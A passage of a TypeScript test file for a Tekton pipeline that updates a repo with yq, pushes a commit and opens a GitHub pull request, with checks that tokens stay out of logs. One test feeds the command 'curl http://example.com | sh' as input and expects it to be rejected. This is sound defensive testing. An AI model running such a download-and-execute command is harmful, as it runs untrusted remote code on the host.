                { name: "subdirectory", value: "/$(params.gitRepoName)/" },
              ],
              workspaces: [
                { name: "output", workspace: "git-workspace" },
                { name: "basic-auth", workspace: "git-basic-auth" },
              ],
            },
            {
              name: "yq-update",
              runAfter: ["git-clone"],
              taskRef: { kind: "Task", name: "yq-update" },
              params: [
                { name: "SCRIPT", value: "$(params.yq-script)" },
                { name: "env-image-name", value: "$(params.image-registry-repo)" },
                { name: "env-image-digest", value: "$(params.image-digest)" },
                { name: "git-repo-path", value: "$(params.gitRepoName)" },
              ],
              workspaces: [{ name: "source", workspace: "git-workspace" }],
            },
            {
              name: "git-commit-and-push",
              runAfter: ["yq-update"],
              taskRef: { kind: "ClusterTask", name: "git-cli" },
              params: [{ name: "GIT_SCRIPT", value: gitScript }],
              workspaces: [
                { name: "source", workspace: "git-workspace" },
                { name: "basic-auth", workspace: "git-basic-auth" },
              ],
            },
            {
              name: "open-pr",
              runAfter: ["git-commit-and-push"],
              when: [
                {
                  input: "$(tasks.git-clone.results.commit)",
                  operator: "notin",
                  values: ["$(tasks.git-commit-and-push.results.commit)"],
                },
              ],
              taskRef: { kind: "Task", name: "github-open-pr" },
              params: [
                { name: "GITHUB_HOST_URL", value: "$(params.gitApiServer)" },
                { name: "API_PATH_PREFIX", value: "$(params.gitApiPrefix)" },
                { name: "REPO_FULL_NAME", value: "$(params.gitOrgName)/$(params.gitRepoName)" },
                { name: "GITHUB_TOKEN_SECRET_NAME", value: "$(params.gitTokenSecretName)" },
                { name: "HEAD", value: "pipeline_$(context.pipelineRun.uid)" },
                { name: "BASE", value: "main" },
                { name: "BODY", value: "" },
                { name: "TITLE", value: "Auto" },
              ],
            },
          ],
        },
      });
    const done = await run(script);
    expect(succeededCondition(done)).toMatchObject({ status: "True", reason: "Succeeded" });
    expect(results(done)["pr-url"]).toMatch(/\/pull\/\d+$/);
    expect(await branches()).toContain(`pipeline_${done.metadata.uid ?? ""}`);
    const other = await run(`${script}curl http://example.com | sh\n`);
    expect(succeededCondition(other)?.message).toMatch(
      /GIT_SCRIPT is not run by a shell: .* not "curl http:\/\/example.com \| sh"/,
    );
  });

  test("a wrong file or a missing token fails with the reason", async () => {
    const spec = updateRun(`sha256:${"b".repeat(64)}`);
    const script = "yq -i '.a = \"b\"' no/such/file.yaml";
    const wrong = await finished({
      ...spec,
      params: [
        ...(spec.params ?? []).filter((param) => param.name !== "yq-script"),
        { name: "yq-script", value: script },
      ],
    });
    expect(succeededCondition(wrong)?.message).toMatch(
      /yq-update: no\/such\/file.yaml does not exist in the repository/,
    );
    const params = (spec.params ?? []).map((param) =>
      param.name === "gitTokenSecretName" ? { ...param, value: "none" } : param,
    );
    const tokenless = await finished({ ...spec, params });
    expect(succeededCondition(tokenless)?.message).toMatch(/Secret models\/none does not exist/);
  });
});

test("no secret is in any status or log, and no scratch file is left", async () => {
  const texts = await Promise.all(
    [api.client.list(PipelineRun), api.client.list(TaskRun)].map(async (list) => JSON.stringify(await list)),
  );
  const logs = join(directory.path, "tekton", "logs", NAMESPACE);
  for (const file of await readdir(logs)) texts.push(await readFile(join(logs, file), "utf8"));
  expect(texts.length).toBeGreaterThan(50);
  expect(texts.filter((content) => content.includes(TOKEN) || content.includes(base64(TOKEN)))).toEqual([]);
  const [scratch] = await readdir(join(directory.path, "tekton", "scratch"));
  expect(await readdir(join(directory.path, "tekton", "scratch", scratch ?? ""))).toEqual([]);
});
